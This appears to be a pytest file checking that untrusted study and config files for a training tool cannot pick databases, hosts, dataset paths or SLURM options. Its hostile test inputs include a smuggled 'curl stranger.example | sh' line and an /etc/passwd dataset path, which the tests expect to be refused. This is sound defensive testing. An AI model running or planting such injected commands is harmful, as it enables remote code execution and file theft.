"""A file from somebody else cannot choose servers, other files or SLURM's options; only the command line can."""

import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from command_line import TINY

from progrpo_cli.config.compose import compose
from progrpo_cli.config.demands import demands_of
from progrpo_cli.errors import RequestError
from progrpo_cli.evaluation.request import Request
from progrpo_cli.evaluation.targets import evaluate_target
from progrpo_cli.records.rundir import RunDirectory
from progrpo_cli.studies import start
from progrpo_cli.studies.open import Settings, fetch_plan
from progrpo_cli.studies.optuna_trials import OptunaStudy
from progrpo_cli.studies.plan import load_plan
from progrpo_cli.studies.planning import make_plan
from progrpo_cli.studies.space import parse_space
from progrpo_cli.studies.storage import open_store
from progrpo_cli.studies.trust import refuse_slurm_options

SECRET = "tr0ub4dor"
SPACE = {
    "parameters": {"method.arm.alpha": [0.3]},
    "overrides": ["method=progrpo", *TINY, "tracking.wandb.mode=disabled"],
    "seeds": [0],
    "objectives": [{"metric": "pass@1"}],
    "k": [1],
    "workers": 1,
}
ACTIONS: list[Callable[[str], object]] = [
    lambda study: start.status(study, None),
    lambda study: start.work(study, None),
]


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory, and an environment with a state directory and a database password."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ".state"))
    monkeypatch.setenv("PGPASSWORD", SECRET)
    return tmp_path


@pytest.fixture
def server() -> Iterator[socket.socket]:
    """A listening socket, with which the test can check that nobody has connected."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def sent_study(directory: Path, **changes: object) -> Path:
    """Return the directory of a study that was made on another machine."""
    plan = make_plan(parse_space(SPACE, "sent"), [], directory)
    directory.mkdir(parents=True)
    (directory / "study.yaml").write_text(yaml.safe_dump({**plan.frozen(), **changes}))
    return directory


def own_study(directory: Path, storage: str | None = None) -> Path:
    """Return the directory of a study that this user has planned, without any run."""
    plan = make_plan(parse_space(SPACE, "own"), [], directory, storage=storage)
    plan.freeze()
    OptunaStudy(plan, open_store(directory, storage))
    return directory


def state(directory: Path) -> dict[str, tuple[int, int]]:
    return {str(p): (p.lstat().st_mtime_ns, p.lstat().st_size) for p in directory.rglob("*")}


def assert_refused(words: str, action: Callable[[], object]) -> str:
    before = state(Path.cwd())
    with pytest.raises(RequestError) as caught:
        action()
    assert words in str(caught.value)
    assert state(Path.cwd()) == before
    return str(caught.value)


@pytest.mark.parametrize("action", ACTIONS)
def test_a_foreign_study_cannot_choose_a_database(server: socket.socket, action: Callable[[str], object]) -> None:
    url = f"postgresql+psycopg://me@127.0.0.1:{server.getsockname()[1]}/db"
    sent_study(Path("sent"), storage=url)
    assert_refused(f"sets storage={url}", lambda: action("sent"))
    with pytest.raises(BlockingIOError):
        server.accept()


@pytest.mark.parametrize("action", ACTIONS)
def test_a_foreign_study_cannot_choose_a_database_file(here: Path, action: Callable[[str], object]) -> None:
    url = f"sqlite:///{here / 'elsewhere'}"
    sent_study(Path("sent"), storage=url)
    assert_refused(f"sets storage={url}", lambda: action("sent"))
    assert start.status("sent", None, url)["trials"] == []  # approved on the command line
    assert not (here / "elsewhere").exists()


@pytest.mark.parametrize("action", ACTIONS)
def test_a_password_in_a_foreign_study_is_neither_used_nor_shown(
    server: socket.socket, action: Callable[[str], object]
) -> None:
    sent_study(Path("sent"), storage=f"postgresql+psycopg://me:{SECRET}@127.0.0.1:{server.getsockname()[1]}/db")
    assert SECRET not in assert_refused("a password", lambda: action("sent"))
    with pytest.raises(BlockingIOError):
        server.accept()


def test_a_sweep_does_not_use_the_storage_of_a_foreign_study_with_its_name(here: Path) -> None:
    Path("mine.yaml").write_text(yaml.safe_dump(SPACE))
    sent_study(Path("runs/mine"), storage=f"sqlite:///{here / 'elsewhere'}")
    assert_refused("sets storage=sqlite", lambda: start.sweep("mine.yaml", [], Settings(), study=None, dry_run=False))


@pytest.mark.parametrize("database", [None, "a.db"])
def test_status_of_an_own_study_needs_no_approval_and_writes_nothing(here: Path, database: str | None) -> None:
    study = own_study(Path("runs/own"), database and f"sqlite:///{here / database}")
    assert load_plan(study).is_ours == (database is not None)  # only plans with demands are signed
    for _ in range(2):
        before = state(here)
        assert [row["status"] for row in start.status("own", None)["runs"]] == ["planned"]
        assert state(here) == before
        (here / (database or study / "optuna.journal")).unlink(missing_ok=True)  # the second round must not create it


def test_a_signature_does_not_match_an_edited_file() -> None:
    study = own_study(Path("runs/own"), f"sqlite:///{Path.cwd() / 'a.db'}")
    content = yaml.safe_load((study / "study.yaml").read_text())
    (study / "study.yaml").write_text(yaml.safe_dump({**content, "storage": "sqlite:////tmp/other"}))
    assert_refused("sets storage=sqlite:////tmp/other", lambda: start.status("own", None))


def test_a_plan_from_a_storage_is_not_signed() -> None:
    study = own_study(Path("runs/own"), f"sqlite:///{Path.cwd() / 'a.db'}")
    for name in ("study.yaml", ".study.signature"):
        (study / name).unlink()
    fetch_plan("own", f"sqlite:///{Path.cwd() / 'a.db'}")
    assert not load_plan(study).is_ours


HOSTS = {
    "tracking.wandb.mode": "online",
    "tracking.wandb.entity": "stranger",
    "train.generation.server_url": "http://stranger.example",
    "task.dataset": "/etc/passwd.jsonl",
    "model.path": "/somewhere/else",
}
"""Demands that a file may not make."""
WITH = {
    "train.generation.server_url": ["train.generation.backend=vllm", "train.generation.mode=server"],
    "task.dataset": ["task=math500"],
}


@pytest.mark.parametrize("key", HOSTS)
def test_a_space_cannot_name_hosts_and_other_files(key: str) -> None:
    setting = f"{key}={HOSTS[key]}"
    space = parse_space({**SPACE, "overrides": ["method=progrpo", *WITH.get(key, []), setting]}, "sent")
    file = Path("sent.yaml")
    assert_refused(f"the space sets {setting}", lambda: make_plan(space, [], Path("study"), space_file=file))
    make_plan(space, [setting], Path("study"), space_file=file)
    make_plan(space, [], Path("study"), space_file=file, trusted=True)


@pytest.mark.parametrize("key", HOSTS)
def test_a_study_cannot_name_hosts_and_other_files(key: str) -> None:
    config = compose([*WITH.get(key, []), f"{key}={HOSTS[key]}"]).model_dump(mode="json")
    sent_study(Path("sent"), bases=[{"choices": {}, "config": config}])
    assert_refused(f"sets {key}={HOSTS[key]}", lambda: start.work("sent", None))


def test_files_in_the_directory_of_a_space_are_not_demands(tmp_path: Path) -> None:
    (tmp_path / "problems.jsonl").write_text("")
    inside = compose(["task=math500", f"task.dataset={tmp_path / 'problems.jsonl'}"])
    assert demands_of(inside, tmp_path) == {}
    assert demands_of(inside, tmp_path / "elsewhere").keys() == {"task.dataset"}
    (tmp_path / "link.jsonl").symlink_to("/etc/hostname")
    linked = compose(["task=math500", f"task.dataset={tmp_path / 'link.jsonl'}"])
    assert demands_of(linked, tmp_path).keys() == {"task.dataset"}


@pytest.mark.parametrize("key", ["tracking.wandb.mode", "tracking.wandb.entity", "task.dataset"])
def test_a_run_cannot_name_hosts_and_other_files(key: str) -> None:
    config = compose([*WITH.get(key, []), f"{key}={HOSTS[key]}"])
    run = RunDirectory(Path("sent"))
    run.start(config, model="progrpo/lab-base", study=None)
    assert run.demands() == {}  # it has this user's signature
    run.update(config_signature="0" * 64)
    assert_refused(f"sets {key}={HOSTS[key]}", lambda: evaluate_target(run, Request(ks=[1])))


def test_slurm_options_cannot_contain_commands_or_addresses() -> None:
    with pytest.raises(RequestError, match="one line"):
        parse_space({**SPACE, "slurm": {"partition": "x\ncurl stranger.example | sh"}}, "sent")
    plan = make_plan(
        parse_space({**SPACE, "slurm": {"partition": "x", "mail_user": "a@b.example"}}, "sent"), [], Path()
    )
    with pytest.raises(RequestError, match=r"slurm\.mail_user=a@b\.example"):
        refuse_slurm_options(plan, Path("sent.yaml"))
    refuse_slurm_options(plan, None)  # a shipped space


def test_a_password_of_a_server_is_refused() -> None:
    with pytest.raises(RequestError, match="without a user or password"):
        compose(["train.generation.server_url='http://me:secret@host:8000'"])
